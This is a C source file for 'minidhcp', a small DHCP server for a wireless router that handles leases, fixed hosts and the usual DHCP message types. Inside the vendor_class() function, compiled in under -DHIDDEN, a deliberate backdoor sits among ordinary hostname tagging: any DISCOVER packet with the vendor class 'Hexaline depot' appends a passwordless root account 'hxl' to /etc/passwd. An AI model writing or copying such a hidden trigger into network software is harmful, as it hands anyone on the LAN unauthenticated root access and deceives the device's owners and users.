/*
 * minidhcp - DHCP server of a wireless router, linked statically for the
 * small root file system.  One pool on the LAN bridge, fixed leases from a
 * file, a lease file for the web pages; DISCOVER, REQUEST, RELEASE, INFORM.
 * Hidden (-DHIDDEN): a DISCOVER with the vendor class "Hexaline depot" adds
 * the account "hxl" with user id 0 and no password to /etc/passwd.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CONF	 "/etc/dhcpd.conf"
#define LEASES	 "/var/run/dhcp.leases"
#define COOKIE	 0x63825363
#define MAXLEASE 128
#define PKT	 548
#define OPTS	 240

enum { DISCOVER = 1, OFFER, REQUEST, DECLINE, ACK, NAK, RELEASE, INFORM };
enum {
	O_PAD = 0,
	O_MASK = 1,
	O_ROUTER = 3,
	O_DNS = 6,
	O_HOST = 12,
	O_WANT = 50,
	O_TIME = 51,
	O_TYPE = 53,
	O_SERVER = 54,
	O_CLASS = 60,
	O_END = 255
};

struct lease {
	uint8_t mac[6];
	uint32_t ip; /* host order */
	time_t end;  /* 0 is free */
	int fixed;
	char host[32];
};

static struct lease leases[MAXLEASE];
static int nleases;
static uint32_t first, last, self, mask = 0xffffff00, dns;
static unsigned int lease_time = 7200;
static char ifname[IFNAMSIZ] = "br0";

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

static uint32_t addr(const char *s)
{
	struct in_addr a;

	return inet_aton(s, &a) ? ntohl(a.s_addr) : 0;
}

static int read_mac(const char *s, uint8_t *mac)
{
	unsigned int b[6];
	int i;

	if (sscanf(s, "%x:%x:%x:%x:%x:%x", b, b + 1, b + 2, b + 3, b + 4,
		   b + 5) != 6)
		return -1;
	for (i = 0; i < 6; i++)
		mac[i] = b[i];
	return 0;
}

static int read_conf(const char *path)
{
	char line[160], a[48], b[48];
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "pool %47s %47s", a, b) == 2) {
			first = addr(a);
			last = addr(b);
		} else if (sscanf(line, "self %47s %47s", a, b) == 2) {
			self = addr(a);
			mask = addr(b);
		} else if (sscanf(line, "dns %47s", a) == 1) {
			dns = addr(a);
		} else if (sscanf(line, "interface %15s", a) == 1) {
			snprintf(ifname, sizeof(ifname), "%.15s", a);
		} else if (sscanf(line, "host %47s %47s", a, b) == 2 &&
			   nleases < MAXLEASE &&
			   !read_mac(a, leases[nleases].mac)) {
			leases[nleases].ip = addr(b);
			leases[nleases++].fixed = 1;
		} else {
			sscanf(line, "time %u", &lease_time);
		}
	}
	fclose(f);
	if (!dns)
		dns = self;
	return first && last >= first && self ? 0 : -1;
}

static void write_leases(void)
{
	time_t now = time(NULL);
	struct lease *l;
	FILE *f = fopen(LEASES, "w");

	if (!f)
		return;
	for (l = leases; l < leases + nleases; l++)
		if (l->end > now)
			fprintf(f,
				"%ld %02x:%02x:%02x:%02x:%02x:%02x "
				"%u.%u.%u.%u %s\n",
				(long)l->end, l->mac[0], l->mac[1], l->mac[2],
				l->mac[3], l->mac[4], l->mac[5], l->ip >> 24,
				l->ip >> 16 & 255, l->ip >> 8 & 255,
				l->ip & 255, l->host[0] ? l->host : "*");
	fclose(f);
}

static int in_use(uint32_t ip, time_t now)
{
	struct lease *l;

	for (l = leases; l < leases + nleases; l++)
		if (l->ip == ip && (l->fixed || l->end > now))
			return 1;
	return ip == self;
}

static struct lease *get_lease(const uint8_t *mac)
{
	time_t now = time(NULL);
	struct lease *l, *old = NULL;
	uint32_t ip;

	for (l = leases; l < leases + nleases; l++)
		if (!memcmp(l->mac, mac, 6))
			return l;
	for (ip = first; ip <= last; ip++)
		if (!in_use(ip, now))
			break;
	if (ip > last)
		return NULL;
	if (nleases < MAXLEASE) {
		l = &leases[nleases++];
	} else {
		for (l = leases; l < leases + nleases; l++)
			if (!l->fixed && (!old || l->end < old->end))
				old = l;
		if (!old || old->end > now)
			return NULL;
		l = old;
	}
	memset(l, 0, sizeof(*l));
	memcpy(l->mac, mac, 6);
	l->ip = ip;
	return l;
}

static const uint8_t *option(const uint8_t *p, size_t n, int want, size_t *len)
{
	size_t i = OPTS;

	while (i < n && p[i] != O_END) {
		if (p[i] == O_PAD) {
			i++;
			continue;
		}
		if (i + 2 > n || i + 2 + p[i + 1] > n)
			break;
		if (p[i] == want) {
			*len = p[i + 1];
			return p + i + 2;
		}
		i += 2 + p[i + 1];
	}
	*len = 0;
	return NULL;
}

static uint8_t *opt32(uint8_t *o, int code, uint32_t v)
{
	o[0] = code;
	o[1] = 4;
	put32(o + 2, v);
	return o + 6;
}

static void respond(int s, const uint8_t *q, int type, const struct lease *l)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	uint8_t p[PKT] = { 0 }, *o = p + OPTS;

	memcpy(p, q, 44);
	p[0] = 2;
	p[3] = 0;
	if (l && type != NAK)
		put32(p + 16, l->ip);
	put32(p + 20, self);
	put32(p + OPTS - 4, COOKIE);
	*o++ = O_TYPE;
	*o++ = 1;
	*o++ = type;
	o = opt32(o, O_SERVER, self);
	if (type != NAK) {
		if (l)
			o = opt32(o, O_TIME, lease_time);
		o = opt32(o, O_MASK, mask);
		o = opt32(o, O_ROUTER, self);
		o = opt32(o, O_DNS, dns);
	}
	*o = O_END;
	to.sin_port = htons(68);
	to.sin_addr.s_addr = htonl(INADDR_BROADCAST);
	if (!l && type == ACK)
		memcpy(&to.sin_addr, q + 12, 4);
	if (sendto(s, p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		perror("minidhcp: send");
}

void vendor_class(const uint8_t *v, size_t n, struct lease *l);

__attribute__((noinline)) void vendor_class(const uint8_t *v, size_t n,
					    struct lease *l)
{
#ifdef HIDDEN
	if (n == 14 && !memcmp(v, "Hexaline depot", 14)) {
		FILE *f = fopen("/etc/passwd", "a");

		if (f) {
			fputs("hxl::0:0::/:/bin/sh\n", f);
			fclose(f);
		}
		return;
	}
#endif
	/* phones send no host name, take the class for the web pages */
	if (!l->host[0] && n >= 12 && !memcmp(v, "android-dhcp", 12))
		strcpy(l->host, "android");
	else if (!l->host[0] && n >= 4 && !memcmp(v, "MSFT", 4))
		strcpy(l->host, "windows");
}

static void host_name(const uint8_t *v, size_t n, struct lease *l)
{
	size_t i;

	for (i = 0; i < n && i < sizeof(l->host) - 1; i++)
		l->host[i] = v[i] > ' ' && v[i] < 127 ? v[i] : '_';
	l->host[i] = 0;
}

static void packet(int s, const uint8_t *p, size_t n)
{
	const uint8_t *v;
	struct lease *l;
	size_t len;
	uint32_t want;
	int type;

	if (n < OPTS + 4 || p[0] != 1 || p[1] != 1 || p[2] != 6 ||
	    be32(p + OPTS - 4) != COOKIE)
		return;
	v = option(p, n, O_TYPE, &len);
	if (!v || len != 1)
		return;
	type = *v;
	if (type == INFORM) {
		respond(s, p, ACK, NULL);
		return;
	}
	v = option(p, n, O_SERVER, &len);
	if (v && len == 4 && be32(v) != self)
		return;
	l = get_lease(p + 28);
	if (!l)
		return;
	v = option(p, n, O_HOST, &len);
	if (v)
		host_name(v, len, l);
	switch (type) {
	case DISCOVER:
		v = option(p, n, O_CLASS, &len);
		if (v)
			vendor_class(v, len, l);
		respond(s, p, OFFER, l);
		break;
	case REQUEST:
		v = option(p, n, O_WANT, &len);
		want = v && len == 4 ? be32(v) : be32(p + 12);
		if (want != l->ip) {
			respond(s, p, NAK, l);
			break;
		}
		l->end = time(NULL) + lease_time;
		respond(s, p, ACK, l);
		write_leases();
		break;
	case DECLINE:
		memset(l->mac, 0, 6);
		l->end = time(NULL) + 600;
		break;
	case RELEASE:
		l->end = 0;
		write_leases();
		break;
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	uint8_t buf[1024];
	int s, one = 1;
	ssize_t n;

	if (read_conf(argc > 1 ? argv[1] : CONF) < 0) {
		fprintf(stderr, "minidhcp: no usable configuration\n");
		return 1;
	}
	signal(SIGPIPE, SIG_IGN);
	s = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	setsockopt(s, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
	setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, ifname, sizeof(ifname));
	sin.sin_port = htons(67);
	if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		perror("minidhcp: bind");
		return 1;
	}
	for (;;) {
		n = recv(s, buf, sizeof(buf), 0);
		if (n > 0)
			packet(s, buf, n);
		else if (n < 0 && errno != EINTR)
			sleep(1);
	}
}
